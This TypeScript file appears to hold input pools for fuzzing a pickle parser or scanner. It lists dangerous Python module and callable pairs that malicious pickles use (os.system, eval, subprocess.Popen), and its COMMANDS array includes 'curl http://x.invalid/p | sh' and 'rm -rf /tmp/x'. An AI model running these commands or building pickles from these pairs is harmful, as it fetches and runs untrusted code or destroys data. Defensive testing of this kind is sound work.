// Module/name/argument pools for generated programs: dangerous callables, ML constructors,
// Python 2 names that CPython's fix_imports maps, dotted names and awkward spellings.

export const MODULES: readonly string[] = [
  'os', 'posix', 'nt', 'builtins', '__builtin__', 'subprocess', 'sys', 'runpy', 'pkgutil', 'importlib',
  'operator', 'functools', 'pickle', '_pickle', 'webbrowser', 'socket', 'pdb', 'code', 'shutil', 'ctypes',
  'torch._utils', 'torch', 'torch.serialization', 'collections', 'numpy.core.multiarray', 'numpy', 'numpy.dtype',
  'copy_reg', 'copyreg', '_codecs', 'os.path', 'exceptions', 'UserDict', 'cPickle', 'dbm', 'urllib', 'urllib2',
  'antigravity', 'made_up_module_xyz', '__main__', 'x', 'a.b.c', '', ' os', 'os ', 'ös', 'mod\r', 'os\u0000x',
  'très.long.module', 'x'.repeat(300), '\ud800',
];

export const NAMES: readonly string[] = [
  'system', 'eval', 'exec', 'Popen', 'getattr', 'apply', '__import__', 'compile', 'open', 'execfile', 'input',
  '_rebuild_tensor_v2', '_rebuild_parameter', 'OrderedDict', '_reconstruct', '_reconstructor', 'dtype', 'scalar',
  'path.join', 'resolve_name', 'attrgetter', 'methodcaller', 'partial', 'loads', 'load', 'run_path', 'set_trace',
  'xrange', 'unicode', 'reduce', 'UserDict', 'StandardError', 'urlopen', 'intern', 'Tkinter',
  'a.b', 'system.__call__', '__dict__', '', 'ñame', 'name\r', 'x'.repeat(300), '<locals>.f', '\udfff',
];

/** Pairs that real pickles and real attacks use, plus pairs CPython's fix_imports rewrites. */
export const PAIRS: ReadonlyArray<readonly [string, string]> = [
  ['os', 'system'], ['posix', 'system'], ['nt', 'system'], ['builtins', 'eval'], ['builtins', 'exec'],
  ['builtins', 'getattr'], ['builtins', '__import__'], ['__builtin__', 'eval'], ['__builtin__', 'xrange'],
  ['__builtin__', 'reduce'], ['__builtin__', 'unicode'], ['__builtin__', 'set'], ['subprocess', 'Popen'],
  ['subprocess', 'check_output'], ['runpy', 'run_path'], ['pkgutil', 'resolve_name'], ['operator', 'attrgetter'],
  ['functools', 'partial'], ['pickle', 'loads'], ['webbrowser', 'open'], ['pdb', 'set_trace'],
  ['torch._utils', '_rebuild_tensor_v2'], ['torch', 'FloatStorage'], ['collections', 'OrderedDict'],
  ['numpy.core.multiarray', '_reconstruct'], ['numpy', 'dtype'], ['numpy', 'ndarray'], ['copy_reg', '_reconstructor'],
  ['copyreg', '_reconstructor'], ['_codecs', 'encode'], ['UserDict', 'UserDict'], ['exceptions', 'StandardError'],
  ['urllib', 'urlopen'], ['dbm', 'open'], ['cPickle', 'loads'], ['os', 'path.join'], ['builtins', 'object.__reduce__'],
  ['antigravity', 'fly'], ['made_up_module_xyz', 'thing'],
];

/** Codes registered by cpython_oracle.py (EXTENSIONS) and codes that are not. */
export const EXT_CODES: readonly number[] = [1, 2, 200, 0x1234, 0xffff, 0x12345678, 0x7fffffff, 0, 3, 255, 0x10000, -1];

export const COMMANDS: readonly string[] = ['id', 'curl http://x.invalid/p | sh', 'print(1)', '', 'rm -rf /tmp/x'];
